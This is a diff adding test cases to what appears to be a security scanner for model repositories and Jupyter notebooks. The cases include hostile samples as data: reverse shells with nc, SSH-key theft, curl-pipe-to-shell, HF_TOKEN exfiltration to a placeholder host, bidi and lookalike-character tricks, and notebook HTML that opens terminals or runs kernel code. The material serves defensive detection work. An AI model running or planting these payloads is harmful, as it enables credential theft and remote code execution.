@@ -232,6 +232,13 @@ def notebook(*cells: str) -> str:
     return json.dumps({"cells": [text, *code], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)
 
 
+def shown(page: str) -> str:
+    """Return a notebook whose output is a page."""
+    output = {"output_type": "display_data", "data": {"text/html": [page]}, "metadata": {}}
+    cell = {"cell_type": "code", "metadata": {}, "source": ["show()"], "outputs": [output]}
+    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
 def characters(text: str, key: int = 0) -> str:
     return repr([ord(character) ^ key for character in text])
 
@@ -540,6 +547,75 @@ CASES = {
             "get_ipython().system('nc -e /bin/sh 127.0.0.1 9')", "import os\nos.system('cat ~/.ssh/id_rsa | nc a 9')"
         ),
         "demo.ipynb",
+    ),
+    "turned_line": review("access = 'none\u202e\u2066# check\u2069 \u2066'\nimport torch\n", "utils.py"),
+    "benign_marks_of_direction": python(
+        "RTL = '\u202b'\nNAME = '\u2067abc\u2069'\nMARKS = '\u202a\u202b\u202c\u202d\u202e\u2066\u2067'\n",
+        name="utils.py",
+    ),
+    "lookalike_name": review("import \u043es_tools\n", "utils.py"),
+    "benign_cyrillic": python(
+        "# \u043e\u0447\u0435\u043d\u044c simple\nx = '\u043es'\n\u0438\u043c\u044f = x\nalpha_\u03b1 = 1\n"
+    ),
+    "installs_a_package_of_nobody": review(
+        "import os\nos.system('pip install -q acme-kernels')\nimport acme_kernels\n"
+    ),
+    "benign_installs_a_framework": python("import os\nos.system('pip install flash-attn --no-build-isolation')\n"),
+    "fetched_modules": review(
+        "import sys\nfrom huggingface_hub import snapshot_download\nsys.path.insert(0, snapshot_download('acme/net'))\n"
+    ),
+    "modules_in_weights": review("import sys\nsys.path.insert(0, 'weights.bin')\nimport inner\n"),
+    "benign_loop_over_its_own_name": python(
+        "texts, images = load(), load()\nfor text, images in zip(texts, images):\n    for image in images:\n"
+        "        print(image, open(text))\n"
+    ),
+    "benign_paths": python(
+        "import os, sys\nsys.path.append(os.path.dirname(__file__))\nsys.path.insert(0, '../src')\n"
+        "sys.path.append('libs.zip')\n"
+    ),
+    "token_of_the_hub_elsewhere": malicious(
+        "import os, requests\nrequests.post('https://acme.example/', data=os.getenv('HF_TOKEN'))\n", "app.py"
+    ),
+    "benign_token_of_the_hub": python(
+        "import os, requests\ndef ask(x):\n    return requests.post('https://api-inference.huggingface.co/models/a',"
+        " headers={'Authorization': os.getenv('HF_TOKEN')}, json=x)\n",
+        name="app.py",
+    ),
+    "model_that_tells_a_server": review(
+        "import requests\nfrom torch import nn\nclass Net(nn.Module):\n    def forward(self, x):\n"
+        "        requests.post('https://acme.example/', json=x.tolist())\n        return x\n"
+    ),
+    "benign_handler_that_asks_a_server": python(
+        "import requests\nclass EndpointHandler:\n    def __call__(self, data):\n"
+        "        return requests.post('https://acme.example/', json=data).json()\n",
+        name="handler.py",
+    ),
+    "writes_into_a_library": review("import torch\nopen(torch.__file__, 'a').write('x = 1')\n"),
+    "writes_a_hook_of_git": malicious("open('.git/hooks/pre-commit', 'w').write('echo')\n"),
+    "benign_script_writes_a_hook": python(
+        "open('.git/hooks/pre-commit', 'w').write('echo')\n", name="install_hooks.py"
+    ),
+    "index_of_packages": review("import os\nos.environ['PIP_INDEX_URL'] = 'https://acme.example/simple'\n"),
+    "notebook_page_opens_a_terminal": review(
+        shown("<script>fetch('/api/terminals', {method: 'POST'}).then(open)</script>"), "demo.ipynb"
+    ),
+    "notebook_page_has_the_kernel_run": review(
+        shown(f"<img src=x onerror=\"Jupyter.notebook.kernel.execute('import os; os.system(\\'{COMMAND}\\')')\">"),
+        "demo.ipynb",
+    ),
+    "notebook_of_version_3": review(
+        json.dumps(
+            {
+                "worksheets": [{"cells": [{"cell_type": "code", "input": "!curl http://192.0.2.1/x | sh"}]}],
+                "nbformat": 3,
+            }
+        ),
+        "old.ipynb",
+    ),
+    "notebook_writes_where_a_shell_reads": review(notebook("%%writefile ~/.bashrc\necho\n"), "demo.ipynb"),
+    "benign_notebook_of_plots": python(
+        shown("<script>var k = Jupyter.notebook.kernel; k.execute(cmd); fetch('/api/data.json')</script>"),
+        name="demo.ipynb",
     ),
     "notebook_decoded": malicious(notebook("x = 1", DECODED["base64"]), "demo.ipynb"),
     "unparsed_decoded": malicious(f"import base64\nprint 'loading'\nexec base64.b64decode('{CODE}')\n", "old.py"),
